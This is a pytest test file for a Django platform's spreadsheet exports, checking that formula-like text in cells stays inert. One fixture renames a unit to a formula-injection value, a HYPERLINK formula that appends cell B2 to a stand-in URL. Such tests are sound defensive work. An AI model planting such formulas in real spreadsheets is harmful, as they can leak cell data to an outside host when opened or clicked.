"""Every xlsx the platform hands out, opened as a spreadsheet program would: no cell holds a
live formula, and a text that looks like one reads exactly as it was typed."""

from __future__ import annotations

import datetime
import io

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from ledger.models import ActivityKind
from ledger.services import record_activity
from orgs.models import Unit
from quiz import bank_io
from quiz.models import Question
from quiz.tests.factories import answer_right, attempt_for, open_quiz, taker_in

HYPERLINK = '=HYPERLINK("http://x"&B2,"x")'
QUESTION = "=1+1 等于几？"


def texts(content: bytes) -> list[str]:
    """Every cell's shown text, after checking that none is a live formula."""
    book = load_workbook(io.BytesIO(content))
    shown = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    # What looks like a formula is a text cell that the program keeps as text.
                    if cell.value.lstrip().startswith(("=", "+", "-", "@")):
                        assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
                    shown.append(cell.value)
    return shown


@pytest.fixture
def hostile_unit(db):
    """Chengguan, renamed by its office to a formula."""
    Unit.objects.filter(code="540102").update(name_zh=HYPERLINK)
    return Unit.objects.get(code="540102")


def _download(client, url, params=None) -> bytes:
    response = client.get(url, params or {})
    assert response.status_code == 200, url
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Cache-Control"] == "private, no-store"
    return response.content


def test_the_quiz_results_export_shows_a_formula_named_unit_as_text(as_user, office, hostile_unit):
    quiz = open_quiz()
    attempt = attempt_for(taker_in("540102001001", "甲"), quiz)
    answer_right(attempt, 3)
    from quiz import services

    services.submit_attempt(attempt=attempt)
    content = _download(as_user(office), reverse("quiz:results_export", args=[quiz.pk]), {"unit": "540100"})
    assert HYPERLINK in texts(content)


def test_the_question_bank_export_keeps_a_question_starting_with_equals_as_text(as_user, office):
    open_quiz()  # loads the bank
    question = Question.objects.order_by("key").first()
    Question.objects.filter(pk=question.pk).update(text_zh=QUESTION, source="@人民日报")
    content = _download(as_user(office), reverse("quiz:bank_export"))
    shown = texts(content)
    assert QUESTION in shown and "@人民日报" in shown
    # And the file imports back unchanged: the text is the text, with nothing added.
    upload = io.BytesIO(content)
    upload.name = "bank.xlsx"
    result = bank_io.import_bank(actor=office, upload=upload)
    assert result.ok, result.problems
    question.refresh_from_db()
    assert question.text_zh == QUESTION and question.source == "@人民日报"


def test_the_quiz_codes_export_has_no_formula(as_user, office):
    quiz = open_quiz()
    from quiz import services

    services.generate_codes(actor=office, quiz=quiz, count=3)
    assert len(texts(_download(as_user(office), reverse("quiz:codes_export", args=[quiz.pk])))) >= 4


def test_the_activity_export_and_template_keep_formulas_as_text(as_user, office, cg_reporter, hostile_unit):
    record_activity(
        actor=office,
        unit=Unit.objects.get(code="540102001"),
        kind=ActivityKind.objects.get(code="collective_study"),
        date=datetime.date(2021, 7, 1),
        sessions=1,
        title="-2+3",
        notes="@SUM(A1:A9)",
    )
    client = as_user(office)
    shown = texts(_download(client, reverse("ledger:learning"), {"unit": "540102", "format": "xlsx"}))
    assert "-2+3" in shown and "@SUM(A1:A9)" in shown
    template = _download(as_user(cg_reporter), reverse("ledger:import_template", args=["collective_study"]))
    assert HYPERLINK in texts(template)  # the unit's name on the codes sheet


def test_the_organisational_life_templates_keep_formulas_as_text(as_user, cg_reporter, hostile_unit):
    client = as_user(cg_reporter)
    with translation.override("zh-hans"):
        talks = _download(client, reverse("orglife:talk_template"))
    assert HYPERLINK in texts(talks)
    texts(_download(client, reverse("orglife:finding_template")))
